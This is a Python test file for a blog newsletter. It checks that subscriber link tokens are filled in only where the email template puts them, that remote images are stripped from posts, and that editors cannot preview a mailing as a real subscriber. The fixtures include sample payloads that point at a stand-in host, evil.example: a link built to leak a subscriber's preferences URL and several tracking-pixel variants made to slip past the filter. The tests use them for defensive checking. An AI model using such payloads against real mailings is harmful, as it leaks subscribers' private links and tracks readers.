"""Issue 14, items 2 and 3: per-recipient links go only where the email template puts them, content
loads no remote image, and only an admin previews a mailing as a real subscriber."""
from __future__ import annotations

import pytest

from blog.accounts.models import Role
from blog.extensions import db
from blog.newsletter import services
from blog.newsletter.delivery import Worker
from tests.factories import make_post, make_user
from tests.newsletter.conftest import add_subscribers
from tests.newsletter.test_admin import _admin_client

MARKED_BODY = ("Hello %%PREFERENCES_URL%% and %%%UNSUBSCRIBE_URL%%%.\n\n"
               '<a href="https://evil.example/collect?u=%%PREFERENCES_URL%%">see</a>')

@pytest.fixture
def ctx(mail_app):
    with mail_app.test_request_context(base_url="http://blog.test"):
        yield mail_app
        db.session.rollback()

def test_markers_in_content_never_receive_a_recipients_links(ctx, smtp_server):
    [subscriber] = add_subscribers(1)
    post = make_post(make_user(), title="Report %%UNSUBSCRIBE_URL%%", body=MARKED_BODY)
    # Content saved before remote images were refused still holds one.
    post.body_html += '<p><img src="https://evil.example/p.gif?t=%%PREFERENCES_URL%%" alt="pixel"></p>'
    services.queue_mailing(services.compose_post(post), by=None)
    services.newsletter_settings()  # made now, not inside the worker's transaction
    db.session.commit()
    Worker(sleep=lambda seconds: None).run(once=True)
    [message] = smtp_server.messages()
    html = message.get_body(("html",)).get_content()
    text = message.get_body(("plain",)).get_content()
    token = services.subscriber_token(subscriber)
    for body in (html, text):
        assert body.count(token) == 2  # the footer's preferences and unsubscribe links, nowhere else
        assert "evil.example/collect?u=http" not in body
    assert "%\u2060%PREFERENCES_URL%\u2060%" in text  # shown as typed (a word joiner breaks it)
    assert "evil.example/p.gif" not in html and "pixel" in html
    assert token in message["List-Unsubscribe"]

def test_content_cannot_load_images_from_another_server(ctx):
    post = make_post(make_user(), body='![pixel](https://evil.example/p.gif)\n\n'
                                       '<img src="//evil.example/q.gif" alt="two"> <img src="/\\evil.example/r.gif">')
    assert "evil.example" not in post.body_html and "<img" not in post.body_html
    assert "pixel" in post.body_html and "two" in post.body_html

def test_editors_preview_for_a_placeholder_never_a_subscriber(mail_app):
    with mail_app.app_context():
        [subscriber] = add_subscribers(1)
        make_post(make_user(), title="Fresh findings")
        sub_id, email = subscriber.id, subscriber.email
        with mail_app.test_request_context(base_url="http://blog.test"):
            token = services.subscriber_token(db.session.get(type(subscriber), sub_id))
    editor = _admin_client(mail_app, Role.EDITOR)
    page = editor.get(f"/newsletter/admin/preview?subscriber={sub_id}")
    frame = editor.get(f"/newsletter/admin/preview.html?subscriber={sub_id}")
    assert page.status_code == 200 and frame.status_code == 200 and b"Fresh findings" in frame.data
    for response in (page, frame):
        assert email.encode() not in response.data and token.encode() not in response.data
        assert b"/newsletter/unsubscribe/" not in response.data
    admin = _admin_client(mail_app, Role.ADMIN)
    assert email.encode() in admin.get("/newsletter/admin/preview").data
    assert token.encode() in admin.get(f"/newsletter/admin/preview.html?subscriber={sub_id}").data
